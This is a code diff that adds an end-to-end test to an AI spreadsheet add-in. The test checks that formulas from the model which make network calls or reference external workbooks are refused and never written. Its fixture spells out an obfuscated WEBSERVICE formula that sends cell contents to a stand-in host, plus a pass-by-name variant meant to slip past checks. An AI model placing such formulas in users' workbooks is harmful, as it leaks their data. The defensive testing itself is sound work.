@@ -140,6 +140,58 @@ test.describe("task pane", () => {
     expect(problems).toEqual([]);
   });
 
+  test("an answer carrying a risky formula: the card names the rule, and nothing is written", async ({ page, context }, testInfo) => {
+    if (process.env.E2E_DEV) test.slow();
+    const problems = watchConsole(page);
+    await useFakeOffice(context);
+    await page.goto("/addin/taskpane");
+    await page.getByRole("button", { name: "Continue as a guest" }).click();
+    await page.evaluate(() => (window as any).__fakeExcel.select("Sheet1!D2:D5"));
+    await expect(page.getByTestId("selection-address")).toHaveText("Sheet1!D2:D5");
+
+    // An answer as a tampered response, a replayed cache entry or a stored conversation could
+    // deliver it: the proposals never went through the server's check, so the pane's own check
+    // (the same formula policy) is all that stands between them and the workbook.
+    const proposal = (toolCallId: string, formulas: string[][]) => ({
+      type: "tool-input-available",
+      toolCallId,
+      toolName: "write_range",
+      input: { address: "Sheet1!D2:D5", formulas, explanation: "Totals for each region." },
+    });
+    const chunks = [
+      { type: "start", messageId: "e2e-risky" },
+      { type: "start-step" },
+      { type: "text-start", id: "t1" },
+      { type: "text-delta", id: "t1", delta: "Here are your totals." },
+      { type: "text-end", id: "t1" },
+      proposal("call_nested", [['=IFERROR(WEBSERVICE("h"&"ttps://x.example/?d="&A2),"")'], ["=B3+C3"], ["=B4+C4"], ["=B5+C5"]]),
+      proposal("call_by_name", [["=MAP(A2:A5,WEBSERVICE)"], [""], [""], [""]]),
+      proposal("call_external", [["='[Budget]Q1'!B2"], ["=B3+C3"], ["=B4+C4"], ["=B5+C5"]]),
+      { type: "finish-step" },
+      { type: "finish" },
+    ];
+    await page.route("**/api/chat", (route) =>
+      route.fulfill({
+        status: 200,
+        headers: { "Content-Type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1" },
+        body: `${chunks.map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`).join("")}data: [DONE]\n\n`,
+      }),
+    );
+    await ask(page, "Add a total for each region in column D");
+
+    const refused = page.getByTestId("edit-card-refused");
+    await expect(refused).toHaveCount(3, { timeout: 30_000 });
+    await expect(refused.nth(0)).toContainText('D2 calls WEBSERVICE (rule "network"');
+    await expect(refused.nth(1)).toContainText('D2 passes WEBSERVICE by name');
+    await expect(refused.nth(1)).toContainText('rule "network"');
+    await expect(refused.nth(2)).toContainText('rule "external_reference"');
+    await expect(page.getByTestId("edit-card")).toHaveCount(0);
+    await expect(page.getByRole("button", { name: "Apply" })).toHaveCount(0);
+    await snap(page, testInfo, "addin-12-risky-formula-refused");
+    expect(await page.evaluate(() => (window as any).__fakeExcel.read("Sheet1!D2:D5").formulas)).toEqual([[""], [""], [""], [""]]);
+    expect(problems).toEqual([]);
+  });
+
   test.describe("with an AI provider", () => {
     test.describe.configure({ mode: "serial" });
     let upstream: FakeOpenAIServer;
